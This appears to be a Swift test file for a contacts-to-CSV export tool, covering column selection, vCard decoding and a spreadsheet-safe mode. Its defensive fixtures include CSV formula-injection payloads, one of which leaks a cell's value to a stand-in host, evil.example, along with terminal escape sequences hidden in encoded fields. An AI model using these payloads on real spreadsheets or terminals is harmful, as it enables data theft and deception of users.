import Foundation
import Testing
import TestSupport

/// CSV and TSV for spreadsheets from contacts and JSON: `--columns`, the
/// default columns of vCards and keyed JSON, `--display` as a column; read
/// back as a spreadsheet would, with Python's `csv` module.
@Suite struct SpreadsheetColumnsTests {
    static let iphone = ContactsExportTests.fixture("iphone.vcf")

    /// The rows of CSV text, parsed by Python's `csv` module (as RFC 4180
    /// readers do: quoted line breaks, doubled quotes), as JSON back here.
    static func readBack(_ csv: Data, delimiter: String = ",") throws -> [[String]] {
        let path = try CollateRunner.file(csv, name: "out.csv")
        let script = """
            import csv, json, sys
            with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:
                print(json.dumps(list(csv.reader(f, delimiter=sys.argv[2]))))
            """
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script, path, delimiter]
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0)
        return try JSONDecoder().decode([[String]].self, from: data)
    }

    /// One row per card, each card once, under the named columns; every
    /// TEL and EMAIL of a card in its cell; a folded name whole; no photo.
    @Test(arguments: ["de", "ja", "zh-Hans"])
    func theColumnsOfAnIPhoneExport(locale: String) throws {
        let result = try CollateRunner.run(["-l", locale, "-f", "csv", "--columns", "FN,TEL,EMAIL", Self.iphone])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(!result.stdout.contains("PHOTO") && !result.stdout.contains("BEGIN:VCARD"))
        let rows = try Self.readBack(result.output)
        #expect(rows.first == ["section", "title", "FN", "TEL", "EMAIL"])
        let cards = try String(contentsOfFile: Self.iphone, encoding: .utf8).components(separatedBy: "BEGIN:VCARD").count - 1
        #expect(rows.count == 1 + cards)
        #expect(rows.dropFirst().allSatisfy { $0.count == 5 })
        let byName = Dictionary(rows.dropFirst().map { ($0[2], Array($0[3...])) }, uniquingKeysWith: { a, _ in a })
        #expect(byName.count == cards, "every card once (one by its empty FN)")
        #expect(byName["Dr. Hans Müller"] == ["+49 170 1234567; +49 30 9876543", "hans.mueller@example.de; h.mueller@siemens.example"])
        #expect(byName["Siobhán O'Brien-Ní Fhlaithbheartaigh, Ollamh le Litríocht na Gaeilge agus na hÉireann"] == ["", "siobhan@example.ie"])
        #expect(byName["小鳥遊 遊"] == ["090-1234-5678", ""])
        #expect(byName["田中 太郎"] == ["080-2222-3333; 03-4444-5555", ""])
        #expect(byName["Георгий Жуков"] == ["", "zhukov@example.ru"])
        #expect(byName[""] == ["+1 555 0100", ""], "a phone-only card: its number, no name")
        #expect(byName["Anders Ångström"] == ["=HYPERLINK(\"http://evil.example\",\"x\")", ""])
        #expect(result.stderr.contains("1 cell begins with =, +, -, @"), "only the formula is counted, not the phone numbers")
        // The rows come in the order text output lists the cards.
        let text = try CollateRunner.run(["-l", locale, "--display", "{FN}|{TEL}", Self.iphone])
        let listed = text.stdout.split(separator: "\n").filter { $0.hasPrefix("  ") }.map { $0.dropFirst(2) }
        #expect(listed.map(String.init) == rows.dropFirst().map { $0[2].isEmpty ? $0[3] : $0[2] })
    }

    /// Without `--columns`: one column, the name the card is shown by.
    @Test func vCardsDefaultToTheirDisplayName() throws {
        let result = try CollateRunner.run(["-l", "de", "-f", "tsv", Self.iphone])
        #expect(result.status == 0, "\(result.stderr)")
        let rows = try Self.readBack(result.output, delimiter: "\t")
        #expect(rows.first == ["section", "title", "name"])
        #expect(rows.contains(["26", "#", "+1 555 0100"]))
        #expect(rows.contains(["25", "Z", "Zeiss Optik GmbH"]))
        #expect(rows.count == 9)
    }

    /// Files of different kinds keep one column, `record`: a line as read,
    /// a card by its display name (not the whole card); `--display` alone
    /// is one column, `name`, with what the template shows.
    @Test func mixedFilesAndDisplayAlone() throws {
        let lines = try CollateRunner.file("Zoltan\n", name: "more.txt")
        let mixed = try CollateRunner.run(["-l", "de", "-f", "csv", Self.iphone, lines])
        #expect(mixed.status == 0, "\(mixed.stderr)")
        let rows = try Self.readBack(mixed.output)
        #expect(rows.first == ["section", "title", "record"])
        #expect(rows.contains(["25", "Z", "Zoltan"]) && rows.contains(["12", "M", "Dr. Hans Müller"]))
        #expect(rows.count == 10 && !mixed.stdout.contains("BEGIN:VCARD"))
        let display = try CollateRunner.run(["-l", "de", "-f", "csv", "--display", "{N.family}|{ORG}|{TEL}", Self.iphone])
        let shown = try Self.readBack(display.output)
        #expect(shown.first == ["section", "title", "name"])
        #expect(shown.dropFirst().map { $0[2] }.contains("Zeiss Optik GmbH") && shown.dropFirst().map { $0[2] }.contains("Müller"))
    }

    /// `--spreadsheet-safe` neutralises the cells of columns too; numbers
    /// are neutralised as they are in rows read from CSV.
    @Test func spreadsheetSafeColumns() throws {
        let result = try CollateRunner.run(["-l", "de", "-f", "csv", "--spreadsheet-safe", "--columns", "N.family,TEL", Self.iphone])
        #expect(result.status == 0 && result.stderr.isEmpty, "\(result.stderr)")
        #expect(result.stdout.contains("0,A,Ångström,\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"\n"))
        #expect(result.stdout.contains("12,M,Müller,'+49 170 1234567; +49 30 9876543\n"))
    }

    /// `--display` gives the first column, `name`; with `--columns`, the
    /// fields follow it. A contacts export's columns by their header names.
    @Test func displayAndColumnsOfAContactsExport() throws {
        let google = ContactsExportTests.fixture("google.csv")
        let result = try CollateRunner.run(["-l", "de", "-f", "csv", "--display", "{First Name} {Last Name}|{Organization Name}",
                                            "--columns", "Phone 1 - Value", "--columns", "21", google])
        #expect(result.status == 0, "\(result.stderr)")
        let rows = try Self.readBack(result.output)
        #expect(rows.first == ["section", "title", "name", "Phone 1 - Value", "21"])
        #expect(rows.contains(["25", "Z", "Zeiss Optik GmbH", "+49 30 1234560", "+49 30 1234560"]))
        #expect(rows.contains(["12", "M", "Hans Müller", "+49 170 1234567", "+49 170 1234567"]))
        // Files with other headers: each file's column by its name.
        let outlook = ContactsExportTests.fixture("outlook.csv")
        let both = try CollateRunner.run(["-l", "de", "-f", "csv", "--display", "{First Name} {Last Name}",
                                          "--columns", "Last Name", google, outlook])
        #expect(both.status == 0, "\(both.stderr)")
        #expect(try Self.readBack(both.output).first == ["section", "title", "name", "Last Name"])
                // Without either, a CSV file's rows come as read, under its own header.
        let plain = try CollateRunner.run(["-l", "de", "-f", "csv", google])
        #expect(plain.stdout.hasPrefix("section,title,First Name,Middle Name,Last Name,"))
    }

    /// JSON: a column per `--key` by default; `--columns` paths, an array's
    /// strings joined; without `--key`, the record as read, as before.
    @Test func jsonColumns() throws {
        let json = try CollateRunner.file("""
            [
              {"id": 1, "attributes": {"displayName": "Жуков", "emails": ["z@example.ru", "zh@example.ru"]}},
              {"id": 2, "attributes": {"displayName": "Антонова", "emails": []}}
            ]
            """, name: "api.json")
        let keyed = try CollateRunner.run(["-l", "ru", "-k", "attributes.displayName", "-f", "csv", json])
        #expect(keyed.stdout == "section,title,attributes.displayName\n0,А,Антонова\n6,Ж,Жуков\n")
        let columns = try CollateRunner.run(["-l", "ru", "-k", "attributes.displayName", "-f", "csv", "--columns", "id,attributes.emails", json])
        #expect(columns.stdout == "section,title,id,attributes.emails\n0,А,2,\n6,Ж,1,z@example.ru; zh@example.ru\n")
        let unknown = try CollateRunner.run(["-l", "ru", "-k", "attributes.displayName", "-f", "csv", "--columns", "id,attributes.mail", json])
        #expect(unknown.status == 1)
        #expect(unknown.stderr.contains("api.json: no record has the field 'attributes.mail' (--columns)"), "\(unknown.stderr)")
    }

    /// Cards as address books export them: 3.0 with groups and escapes,
    /// 2.1 in quoted-printable Latin-1, 4.0 with a `data:` photo.
    static let addressBook = """
        BEGIN:VCARD\r
        VERSION:3.0\r
        FN:Anna Müller\r
        N:Müller;Anna;;Dr.;\r
        TITLE:Leiterin Einkauf\r
        BDAY:1980-04-01\r
        NOTE:Erste Zeile\\nzweite\\, mit Komma\\; Semikolon \\\\ Backslash\r
        item1.EMAIL;TYPE=INTERNET:anna@example.de\r
        item1.X-ABLabel:_$!<Other>!$_\r
        EMAIL;TYPE=WORK:a.mueller@example.com\r
        ADR;TYPE=HOME:;;Hauptstr. 1;Berlin;;10115;Deutschland\r
        item2.ADR;TYPE=WORK:;;Marienplatz 2;München;BY;80331;Deutschland\r
        PHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJRgABAQAAAQABAAD\r
         /2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHR8eHR\r
        END:VCARD\r
        BEGIN:VCARD\r
        VERSION:2.1\r
        N:Zeiss;Bernd\r
        FN:Bernd Zeiss\r
        TITLE;CHARSET=ISO-8859-1;ENCODING=QUOTED-PRINTABLE:Gesch=E4ftsf=FChrer\r
        ADR;WORK;CHARSET=ISO-8859-1;ENCODING=QUOTED-PRINTABLE:;;Carl-Zei=DF-Str. 1;Jena;;07743;\r
        END:VCARD\r
        BEGIN:VCARD\r
        VERSION:4.0\r
        FN:Chen Wei\r
        PHOTO:data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB\r
        LOGO:https://example.com/logo.png\r
        X-CUSTOM-ID:C-3\r
        END:VCARD\r

        """

    /// Any vCard property is a column, in any case, groups counting as
    /// the property; values unescaped (a line break inside its cell),
    /// decoded from their charset, several joined by `; `; components by
    /// name; binary values empty; a property no card has an empty column.
    @Test func anyPropertyIsAColumn() throws {
        let vcf = try CollateRunner.file(Self.addressBook, name: "book.vcf")
        let columns = "FN,title,BDAY,ADR.locality,NOTE,item1.EMAIL,EMAIL,N.prefix,ADR,PHOTO,LOGO,X-Custom-ID,ROLE"
        let result = try CollateRunner.run(["-l", "de", "-f", "csv", "--columns", columns, vcf])
        #expect(result.status == 0 && result.stderr.isEmpty, "\(result.stderr)")
        #expect(!result.stdout.contains("/9j/") && !result.stdout.contains("iVBOR"), "no base64 in a cell")
        let rows = try Self.readBack(result.output)
        #expect(rows == [
            ["section", "title", "FN", "title", "BDAY", "ADR.locality", "NOTE", "item1.EMAIL", "EMAIL", "N.prefix", "ADR", "PHOTO",
             "LOGO", "X-Custom-ID", "ROLE"],
            ["2", "C", "Chen Wei", "", "", "", "", "", "", "", "", "", "https://example.com/logo.png", "C-3", ""],
            ["12", "M", "Anna Müller", "Leiterin Einkauf", "1980-04-01", "Berlin; München",
             "Erste Zeile\nzweite, mit Komma; Semikolon \\ Backslash",
             "anna@example.de; a.mueller@example.com", "anna@example.de; a.mueller@example.com", "Dr.",
             "Hauptstr. 1, Berlin, 10115, Deutschland; Marienplatz 2, München, BY, 80331, Deutschland", "", "", "", ""],
            ["25", "Z", "Bernd Zeiss", "Geschäftsführer", "", "Jena", "", "", "", "", "Carl-Zeiß-Str. 1, Jena, 07743", "", "", "", ""],
        ])
        let tsv = try CollateRunner.run(["-l", "de", "-f", "tsv", "--columns", "ADR.street,ADR.code", vcf])
        #expect(try Self.readBack(tsv.output, delimiter: "\t").last == ["25", "Z", "Carl-Zeiß-Str. 1", "07743"])
    }

    /// Unknown fields: a vCard's before reading (exit 2: a name that is
    /// no property name, a component its property lacks), a CSV column at
    /// the header (exit 1, listing the columns).
    @Test func unknownColumnsAreNamed() throws {
        let vcf = try CollateRunner.run(["-l", "de", "-f", "csv", "--columns", "FN,Full Name", Self.iphone])
        #expect(vcf.status == 2 && vcf.stdout.isEmpty)
        #expect(vcf.stderr.contains("iphone.vcf: --columns field 'Full Name' is not a vCard property name"), "\(vcf.stderr)")
        let component = try CollateRunner.run(["-l", "de", "-f", "csv", "--columns", "ADR.city", Self.iphone])
        #expect(component.status == 2)
        #expect(component.stderr.contains("iphone.vcf: --columns field 'ADR.city': ADR has no component 'city'; its components are: ADR.pobox, ADR.extended, ADR.street, ADR.locality, ADR.region, ADR.code, ADR.country"))
        let groups = try CollateRunner.run(["-l", "de", "-f", "csv", "--columns", "a.b.EMAIL", Self.iphone])
        #expect(groups.status == 2 && groups.stderr.contains("has two groups"))
        let csv = try CollateRunner.run(["-l", "de", "-f", "csv", "--columns", "Phone", ContactsExportTests.fixture("google.csv")])
        #expect(csv.status == 1)
        #expect(csv.stderr.contains("google.csv:1: no column 'Phone' (--columns) in the header; the columns are: 1 'First Name'"))
        #expect(csv.stdout.isEmpty)
    }

    @Test(arguments: [(["-f", "text", "--columns", "FN"], "--columns is for the records of --format csv and tsv"),
                      (["-f", "csv", "-c", "--columns", "FN"], "--columns is for the records of --format csv and tsv"),
                      (["-f", "csv", "--columns", "FN,,TEL"], "a field name is empty"),
                      (["-f", "json", "--display", "{FN}"], "(for chosen fields of each record: -f csv --columns)")])
    func misusedOptionsAreUsageErrors(options: [String], message: String) throws {
        let result = try CollateRunner.run(["-l", "de"] + options + [Self.iphone])
        #expect(result.status == 2)
        #expect(result.stderr.contains(message), "\(result.stderr)")
    }

    /// No value is dropped: a JSON array gives every element (a `null` as an
    /// empty value, `true` as written, a nested value as its JSON text), and
    /// vCard text that only begins with `data:` is text; a photo's URI is not.
    @Test func noValueIsDroppedSilently() throws {
        let json = try CollateRunner.file("{\"n\":\"Zed\",\"phones\":[null,\"+49 30 1234\"]}\n{\"n\":\"Anna\",\"phones\":[\"+1 555 0100\",true,\"+1 555 0199\",{\"o\": 1}]}\n", name: "p.jsonl")
        let rows = try CollateRunner.run(["-l", "en", "--key", "n", "-f", "csv", "--columns", "n,phones", json]).stdout
        #expect(rows == "section,title,n,phones\n0,A,Anna,\"+1 555 0100; true; +1 555 0199; {\"\"o\"\": 1}\"\n25,Z,Zed,; +49 30 1234\n", "\(rows)")
        let card = try CollateRunner.file("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Zed\r\nTITLE:Data:Scientist\r\nNOTE:data: migration plan\r\nPHOTO:data:image/png;base64,iVBORw0KGgo=\r\nEND:VCARD\r\n", name: "d.vcf")
        let cells = try CollateRunner.run(["-l", "en", "-f", "csv", "--columns", "FN,TITLE,NOTE,PHOTO", card]).stdout
        #expect(cells == "section,title,FN,TITLE,NOTE,PHOTO\n25,Z,Zed,Data:Scientist,data: migration plan,\n", "\(cells)")
    }

    /// `--spreadsheet-safe` neutralises every cell: the header row copied
    /// from CSV input and a table's titles too, and the warning counts them.
    @Test func theHeaderRowAndTitlesAreCellsToo() throws {
        let csv = try CollateRunner.file("\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Click\"\")\",phone\r\nZed,+1 555 0100\r\n", name: "header.csv")
        let safe = try CollateRunner.run(["-l", "en", "-f", "csv", "--spreadsheet-safe", csv])
        #expect(safe.stdout.hasPrefix("section,title,\"'=HYPERLINK("), "\(safe.stdout)")
        let plain = try CollateRunner.run(["-l", "en", "-f", "csv", csv])
        #expect(plain.stdout.hasPrefix("section,title,\"=HYPERLINK("))
        #expect(plain.stderr.contains("1 cell begins with =, +, -, @"), "\(plain.stderr)")
        var table = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().appendingPathComponent("Locales/en.json"))) as! [String: Any]
        var titles = table["sectionTitles"] as! [String]
        titles[0] = "=HYPERLINK(\"http://evil.example/\")"
        (table["id"], table["sectionTitles"]) = ("f", titles)
        let tablePath = try CollateRunner.file(try JSONSerialization.data(withJSONObject: table), name: "f.json")
        let titled = try CollateRunner.run(["--table", tablePath, "-f", "csv", "--spreadsheet-safe"], stdin: "Anna\n")
        #expect(titled.stdout == "section,title,record\n0,\"'=HYPERLINK(\"\"http://evil.example/\"\")\",Anna\n", "\(titled.stdout)")
    }

    /// Quoted-printable, base64 and JSON escapes gave a raw ESC sequence
    /// and a NUL in a CSV cell without a word: they are counted, and
    /// `--spreadsheet-safe` writes them as Control Pictures.
    @Test func controlsTheInputEncodedAreCounted() throws {
        let card = try CollateRunner.file("BEGIN:VCARD\nVERSION:2.1\nN:Zed;;;;\nFN;ENCODING=QUOTED-PRINTABLE:Zed=1B]0;owned=07\nNOTE;ENCODING=BASE64:AAECAwQF\nEND:VCARD\n", name: "controls.vcf")
        let plain = try CollateRunner.run(["-l", "en", "-f", "csv", "--columns", "FN,NOTE", card])
        #expect(plain.status == 0)
        #expect(plain.stdout == "section,title,FN,NOTE\n25,Z,Zed\u{1B}]0;owned\u{07},\u{00}\u{01}\u{02}\u{03}\u{04}\u{05}\n")
        #expect(plain.stderr.hasPrefix("collate: warning: 2 cells the input encoded hold control characters"), "\(plain.stderr)")
        let safe = try CollateRunner.run(["-l", "en", "-f", "csv", "--columns", "FN,NOTE", "--spreadsheet-safe", card])
        #expect(safe.stdout == "section,title,FN,NOTE\n25,Z,Zed\u{241B}]0;owned\u{2407},\u{2400}\u{2401}\u{2402}\u{2403}\u{2404}\u{2405}\n")
        #expect(safe.stderr.hasPrefix("collate: note: 2 cells the input encoded hold control characters"), "\(safe.stderr)")
        let jsonl = try CollateRunner.file("{\"n\":\"Zed\\u001b[2J\"}\n{\"n\":\"Anna\\tB\"}\n", name: "controls.jsonl")
        let keyed = try CollateRunner.run(["-l", "en", "-f", "csv", "--key", "n", jsonl])
        #expect(keyed.stdout == "section,title,n\n0,A,Anna\tB\n25,Z,Zed\u{1B}[2J\n")
        #expect(keyed.stderr.hasPrefix("collate: warning: 1 cell the input encoded holds control characters"), "\(keyed.stderr)")
    }

    /// `TEL.x` gave an empty column (group TEL, property X); a JSON member
    /// whose name holds a dot could not be named; a path to an object said
    /// to use --key.
    @Test func ambiguousColumnNamesAreResolvedOrRefused() throws {
        let card = try CollateRunner.file("BEGIN:VCARD\nVERSION:3.0\nN:Zed;;;;\nTEL:+1 555\nEND:VCARD\n", name: "tel.vcf")
        let tel = try CollateRunner.run(["-l", "en", "-f", "csv", "--columns", "TEL.x", card])
        #expect(tel.status == 2)
        #expect(tel.stderr.hasPrefix("collate: error: \(card): --columns field 'TEL.x': TEL has no components (only N, ADR and ORG do); a group comes before the property (item1.TEL)\n"), "\(tel.stderr)")
        let jsonl = try CollateRunner.file("{\"a.b\":\"x\",\"a\":{\"b\":\"y\"},\"n\":\"Zed\",\"o\":{\"p\":1}}\n", name: "dots.jsonl")
        let dotted = try CollateRunner.run(["-l", "en", "-k", "n", "-f", "csv", "--columns", #"a\.b,a.b"#, jsonl])
        #expect(dotted.stdout == "section,title,a\\.b,a.b\n25,Z,x,y\n")
        let object = try CollateRunner.run(["-l", "en", "-k", "n", "-f", "csv", "--columns", "o", jsonl])
        #expect(object.status == 1)
        #expect(object.stderr.hasSuffix("the value is an object, not a string; name one of its members after a '.' (members: 'p')\n"), "\(object.stderr)")
    }
}
